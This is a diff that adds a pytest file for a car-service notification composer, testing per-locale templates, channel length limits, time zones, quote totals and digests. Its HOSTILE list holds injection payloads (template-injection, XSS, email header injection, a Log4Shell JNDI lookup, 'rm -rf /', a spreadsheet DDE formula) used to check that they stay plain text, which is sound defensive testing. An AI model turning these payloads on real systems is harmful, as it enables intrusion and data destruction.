@@ -1,0 +1,239 @@
+"""What customers read: every milestone in every language, within all limits, whatever upstream sends."""
+
+from __future__ import annotations
+
+import json
+import re
+from decimal import Decimal
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sinks.clickhouse.centers import Center
+from sinks.push import wording
+from sinks.push.channels.wechat import fit
+from sinks.push.compose import Composer
+from sinks.push.words import BLOCKS, LOCALES, TEMPLATES, NoTemplate, Wordsmith
+from streams.journey.notices import _RULES
+from tests.providers.messages import CENTER, HOUR, QUOTE, a_composer, a_notice, a_send, now_ms
+
+MILESTONES = (*_RULES, "running_late", "no_news")
+LINK = "https://service.example-dealer-group.com.cn/t/" + "A" * 43
+
+# The longest of everything that the schema lets through.
+WORST_QUOTE = {
+    "total": "999999999999.99",
+    "labour_hours": "9999.999",
+    "labour_rate": "999999999999.99",
+    "currency": "CNY",
+    "parts": [{"part_no": "配件" * 64, "quantity": "999999999", "unit_price": "999999999999.99"}] * 500,
+}
+WORST_CENTER = Center(id="C1", name="超" * 200, name_en="Very Long Name " * 20, region="East")
+
+
+def worst(milestone: str, locale: str) -> dict[str, Any]:
+    fields: dict[str, Any] = {"order_id": "W" * 64, "locale": locale, "at": 1_798_700_000_000}
+    fields["part_no"] = "Ⅷ" * 128
+    fields["promised_at"] = fields["expected_at"] = fields["at"] + 24 * HOUR
+    if milestone == "quote_ready":
+        fields["quote"] = WORST_QUOTE
+    if milestone == "handed_off":
+        fields["final_amount"] = "999999999999.99"
+    return a_notice(milestone, **fields)
+
+
+def words_of(notice: dict[str, Any], composer: Composer | None = None):
+    return (composer or a_composer(LINK)).words(notice, None)
+
+
+every_text = pytest.mark.parametrize(
+    ("milestone", "locale"), [(milestone, locale) for milestone in MILESTONES for locale in LOCALES]
+)
+
+
+def test_every_milestone_has_words_in_every_language():
+    for locale in LOCALES:
+        assert {path.stem for path in (TEMPLATES / locale).glob("*.txt")} == {*MILESTONES, "digest"}
+
+
+@every_text
+def test_the_longest_values_keep_to_the_limits_of_every_channel(milestone: str, locale: str):
+    composer = Composer(Wordsmith(), {"C1": WORST_CENTER}, "Asia/Shanghai", link=lambda _: LINK)
+    notice = worst(milestone, locale)
+    send = a_send(notice)
+    words = words_of(notice, composer)
+    fields = composer.message([send], None, "fields").fields
+
+    assert 0 < len(words.title) <= wording.TITLE
+    assert len(words.short.encode("utf-16-le")) // 2 <= wording.SHORT
+    assert words.short.endswith(LINK), "a link that is cut leads nowhere"
+    assert len(json.dumps({"title": words.title, "body": words.short}).encode()) < 3000  # of Web Push's 4096
+    assert re.fullmatch(r"[\u4e00-\u9fff]{1,5}", words.status)
+    assert 0 < len(words.note) <= 20
+    assert fit("thing1", fields["note"]) == fields["note"]
+    assert fit("phrase2", fields["status"]) == fields["status"]
+    assert 1 <= len(fit("character_string3", fields["order"])) <= 32
+    assert len(words.text) < 20_000
+    assert len(words.html.encode()) < 100_000
+
+
+@every_text
+def test_nothing_known_leaves_no_hole_in_a_sentence(milestone: str, locale: str):
+    nothing = dict.fromkeys(("promised_at", "expected_at", "part_no", "final_amount", "center_id"))
+    words = words_of(a_notice(milestone, locale=locale, **nothing), a_composer(""))
+
+    for said in (words.title, words.short, words.text, words.note):
+        assert not re.search(r"None|  \S|\{|\(\)|（）|，。|：。| [.,;。，]|\bundefined\b", said.replace("\n", " ¶")), (
+            said
+        )
+    assert not re.search(r"\n\n\n", words.text)
+
+
+@every_text
+def test_every_form_can_be_read(milestone: str, locale: str):
+    words = words_of(a_notice(milestone, locale=locale))
+    chinese = re.compile(r"[\u4e00-\u9fff]")
+
+    for said in (words.title, words.short, words.text, words.note):
+        assert said.strip()
+        assert bool(chinese.search(said)) == (locale == "zh-CN"), said
+
+
+def test_a_failed_check_is_told_as_care_and_not_as_a_defect():
+    for locale in LOCALES:
+        words = words_of(a_notice("extra_check", locale=locale))
+        told = words.title + words.short + words.text
+        assert not re.search(r"fail|defect|fault|wrong|不合格|失败|故障|缺陷|返工", told, re.IGNORECASE)
+    assert "额外检查" in words_of(a_notice("extra_check", locale="zh-CN")).short
+    assert "extra check" in words_of(a_notice("extra_check", locale="en")).short
+
+
+def test_a_quote_shows_how_its_total_comes_about():
+    text = words_of(a_notice("quote_ready", locale="en")).text
+
+    assert "Labour: 1.5 hours × CN¥380.00 = CN¥570.00" in text
+    assert "Part P-1: 2 × CN¥99.95 = CN¥199.90" in text
+    assert "Total: CN¥769.90" in text
+    assert Decimal("570.00") + Decimal("199.90") == Decimal(QUOTE["total"])
+
+
+def test_times_are_those_of_the_center():
+    new_york = CENTER.model_copy(update={"time_zone": "America/New_York"})
+    notice = a_notice("checked_in", locale="en", at=1_772_442_000_000, promised_at=1_772_442_000_000)  # 09:00 UTC
+
+    assert "Mon 2 Mar, 17:00" in words_of(notice).short
+    assert "Mon 2 Mar, 04:00" in words_of(notice, Composer(Wordsmith(), {"C1": new_york}, "Asia/Shanghai")).short
+
+
+def test_a_customer_without_a_language_is_told_in_the_house_language():
+    assert words_of(a_notice("ready", locale=None)).values["locale"] == "zh-CN"
+    assert words_of(a_notice("ready", locale="fr")).values["locale"] == "zh-CN"
+
+
+def test_a_milestone_without_words_says_so():
+    with pytest.raises(NoTemplate, match="teleported"):
+        words_of(a_notice("teleported"))
+
+
+def test_an_operators_own_template_goes_first(tmp_path: Path):
+    (tmp_path / "en").mkdir()
+    blocks = "".join(f"{{% block {name} %}}our own {name}, {{{{ order }}}}{{% endblock %}}" for name in BLOCKS)
+    (tmp_path / "en" / "ready.txt").write_text(blocks)
+    ours = Composer(Wordsmith(tmp_path), {}, "Asia/Shanghai")
+
+    assert words_of(a_notice("ready"), ours).title == "our own title, R1"
+    assert words_of(a_notice("checked_in"), ours).title == "We have your car"
+
+
+def test_what_was_held_is_told_as_one():
+    composer = a_composer()
+    sends = [
+        a_send(a_notice("repair_started", at=now_ms() - HOUR)),
+        a_send(a_notice("promise_changed", at=now_ms() - HOUR // 2)),
+        a_send(a_notice("ready")),
+    ]
+    message = composer.message(list(reversed(sends)), None, "short")
+
+    assert message.id == sends[-1].id
+    assert message.words.title == "3 news of your car"
+    assert message.words.short.startswith(
+        "Your car (order R1): The repair has started; New time for your car; Your car is ready. https://"
+    )
+    assert "your car (order R1) is ready for you" in message.words.text
+    assert "<h1" in message.words.html
+
+
+# Whatever upstream sends is text, and stays it
+
+HOSTILE = [
+    "{{ 7*7 }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "\r\nBcc: everybody@example.com\r\n\r\nhello",
+    "a\nb\x00c\x1b[31m\u202egnp.exe\u2066\u200b",
+    "@everyone <!channel> <@U123> @all",
+    "[click](https://evil.example)",
+    "https://evil.example/x javascript:alert(1)",
+    "evil.example.com/pay",
+    "${jndi:ldap://evil}",
+    "`rm -rf /`",
+    "=cmd|'/c calc'!A1",
+]
+
+
+def elements(page: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
+    """The tags of a page with their attributes, as a browser sees them."""
+    found: list[Any] = []
+
+    class Reader(HTMLParser):
+        def handle_starttag(self, tag: str, attributes: Any) -> None:
+            found.append((tag, attributes))
+
+    Reader().feed(page)
+    return found
+
+
+@pytest.mark.parametrize("locale", LOCALES)
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_value_is_never_more_than_text(value: str, locale: str):
+    quote = {**QUOTE, "currency": value[:8] or "X", "parts": [{"part_no": value, "quantity": "1", "unit_price": "1"}]}
+    clean = {"locale": locale, "at": 1_772_442_000_000}
+    for milestone in ("part_delayed", "quote_ready"):
+        fields = {"part_no": value, "order_id": value, **({"quote": quote} if milestone == "quote_ready" else {})}
+        words = words_of(a_notice(milestone, **clean, **fields))
+        plain = words_of(a_notice(milestone, **clean))
+        for said in (words.title, words.short, words.note, words.status):
+            assert said.isprintable()
+        for said in (words.short.replace(LINK, ""), words.text.replace(LINK, "")):
+            assert not re.search(r"[{}<>`@\[\]\x00\u202e\u200b]|https?:|javascript:|\.example|49", said), said
+        assert elements(words.html) == elements(plain.html)
+        assert words.text.count("\n") == plain.text.count("\n")
+
+
+def test_a_template_cannot_reach_out_of_its_sandbox(tmp_path: Path):
+    (tmp_path / "en").mkdir()
+    reach = "{{ order.__class__.__mro__ }}"
+    blocks = "".join(f"{{% block {name} %}}{reach}{{% endblock %}}" for name in BLOCKS)
+    (tmp_path / "en" / "ready.txt").write_text(blocks)
+
+    with pytest.raises(Exception, match=r"unsafe|access to attribute"):
+        _ = words_of(a_notice("ready"), Composer(Wordsmith(tmp_path), {}, "Asia/Shanghai")).title
+
+
+@pytest.mark.parametrize("value", [*HOSTILE, "配件 06L-115.562_B", "x" * 500])
+def test_a_plain_value_is_one_short_printable_line(value: str):
+    shown = wording.plain(value, 24)
+
+    assert len(shown) <= 24
+    assert shown.isprintable()
+
+
+def test_ordinary_part_numbers_stay_as_they_are():
+    assert [wording.plain(each, 24) for each in ("06L-115.562_B", "P-7", "前刹车片")] == [
+        "06L-115.562_B",
+        "P-7",
+        "前刹车片",
+    ]
